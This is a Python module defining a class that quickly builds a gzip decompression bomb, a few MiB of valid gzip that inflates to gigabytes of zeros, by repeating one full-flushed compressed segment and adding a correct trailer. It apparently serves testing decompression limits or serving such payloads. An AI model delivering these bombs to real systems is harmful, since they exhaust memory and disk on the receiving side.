"""A gzip bomb: a few MiB that inflate to GiB, built in a fraction of a second.

Compressing 3 GiB of zeros would take a minute; instead one full-flushed segment of zeros is
compressed once and repeated (a full flush byte-aligns the stream and resets its state, so the
same bytes may follow one another), then closed with an empty final block and a correct trailer.
"""

from __future__ import annotations

import struct
import zlib
from collections.abc import Iterator

__all__ = ["MIB", "GzipBomb"]

MIB = 1024 * 1024
_EMPTY_FINAL_BLOCK = b"\x03\x00"
"""A final, empty block with fixed Huffman codes: ends a byte-aligned deflate stream."""


class GzipBomb:
    """``inflated`` bytes of zeros as one valid gzip member; iterate it for its pieces (one per
    ``segment`` of zeros, a few KiB each, so every piece inflates about a thousandfold)."""

    def __init__(self, inflated: int, segment: int = 4 * MIB) -> None:
        packer = zlib.compressobj(9, zlib.DEFLATED, zlib.MAX_WBITS | 16)
        zeros = bytes(segment)
        self.first = packer.compress(zeros) + packer.flush(zlib.Z_FULL_FLUSH)
        """The gzip header and the first segment."""
        self.repeat = packer.compress(zeros) + packer.flush(zlib.Z_FULL_FLUSH)
        """Every later segment (the same bytes each time)."""
        self.segment = segment
        self.count = max(2, inflated // segment)
        """Segments in all."""

    @property
    def inflated(self) -> int:
        """Bytes of zeros the whole bomb inflates to."""
        return self.count * self.segment

    @property
    def size(self) -> int:
        """Bytes of the whole compressed bomb."""
        return len(self.first) + (self.count - 1) * len(self.repeat) + len(_EMPTY_FINAL_BLOCK) + 8

    def __iter__(self) -> Iterator[bytes]:
        yield self.first
        for _ in range(self.count - 1):
            yield self.repeat
        # Only a reader that inflated everything gets here: the trailer's CRC is worked out now.
        zeros = bytes(self.segment)
        crc = 0
        for _ in range(self.count):
            crc = zlib.crc32(zeros, crc)
        yield _EMPTY_FINAL_BLOCK + struct.pack("<II", crc, self.inflated & 0xFFFFFFFF)
